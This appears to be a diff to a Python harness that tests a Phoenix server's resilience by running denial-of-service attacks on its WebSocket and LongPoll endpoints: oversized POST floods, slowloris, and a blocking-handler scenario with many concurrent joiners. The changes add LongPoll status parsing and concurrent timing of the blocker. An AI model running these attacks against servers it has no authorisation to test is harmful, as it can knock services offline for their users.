@@ -15,7 +15,9 @@ import collections
 import time
 from dataclasses import dataclass
 
-from wsraw import BINARY, PING, PhxClient, Sockets, frame, read_head, tcp_connect, ws_open
+import json
+
+from wsraw import BINARY, PING, PhxClient, Sockets, frame, read_response, tcp_connect, ws_open
 
 WS_PATH = "/socket/websocket?vsn=2.0.0&user=attacker"
 LP_PATH = "/socket/longpoll?vsn=2.0.0"
@@ -129,7 +131,7 @@ async def attack_longpoll_posts(t: Target, o) -> dict:
 
     async def one(i):
         sock = await tcp_connect(socks, t.source(i), t.host, t.port)
-        answer = asyncio.ensure_future(asyncio.wait_for(read_head(sock), o.lp_timeout))
+        answer = asyncio.ensure_future(asyncio.wait_for(read_response(sock), o.lp_timeout))
         await loop.sock_sendall(sock, head)
         sent = 0
         try:
@@ -140,7 +142,7 @@ async def attack_longpoll_posts(t: Target, o) -> dict:
             pass
         early = answer.done() and sent < size
         try:
-            status = (await answer)[0]
+            status = lp_status(*(await answer))
         except (OSError, asyncio.TimeoutError) as exc:
             status = why(exc)
         socks.close(sock)
@@ -157,6 +159,15 @@ async def attack_longpoll_posts(t: Target, o) -> dict:
     return {"summary": f"{o.lp_posts} x {o.lp_body_mb:g} MB: answered {st}; {early} answered before the whole "
                        f"body was sent; {body_mb:.0f} MB of body sent",
             "ok": early == o.lp_posts, "statuses": dict(statuses), "answered_early": early, "body_mb_sent": body_mb}
+
+
+def lp_status(http: int, body: bytes) -> str:
+    """Phoenix's LongPoll answers HTTP 200 with the outcome in the JSON body: {"status": 410}."""
+    try:
+        inner = json.loads(body).get("status")
+    except (ValueError, AttributeError):
+        inner = None
+    return f"HTTP {http}" + (f" status {inner}" if inner is not None else "")
 
 
 # ---- 4: slowloris ---------------------------------------------------------------------------
@@ -380,21 +391,24 @@ async def attack_blocking_handler(t: Target, o) -> dict:
 
     try:
         blocker = await PhxClient.open(socks, t.source(0), t.host, t.port, "user=blocker")
-        ref, rep = await blocker.join("block:1", {}, timeout=10)
-        join_ref = ref
+        join_ref, _ = await blocker.join("block:1", {}, timeout=10)
         t_block = time.monotonic()
         sleep_ref = await blocker.push("block:1", "sleep", {"s": o.block_seconds}, join_ref=join_ref)
+
+        async def unblocked():
+            try:
+                await blocker.reply(sleep_ref, o.block_seconds + 15)
+                return time.monotonic() - t_block
+            except (OSError, TimeoutError, asyncio.TimeoutError):
+                return None
+        blocked = asyncio.ensure_future(unblocked())
         tasks = []
         k = 0
         while time.monotonic() - t_block < o.block_seconds + 2:
             tasks.append(asyncio.ensure_future(joiner(k)))
             k += 1
             await asyncio.sleep(o.joiner_interval)
-        try:
-            await blocker.reply(sleep_ref, o.block_seconds + 15)
-            blocked_for = time.monotonic() - t_block
-        except (OSError, TimeoutError, asyncio.TimeoutError):
-            blocked_for = None
+        blocked_for = await blocked
         await asyncio.gather(*tasks, return_exceptions=True)
     finally:
         socks.close_all()
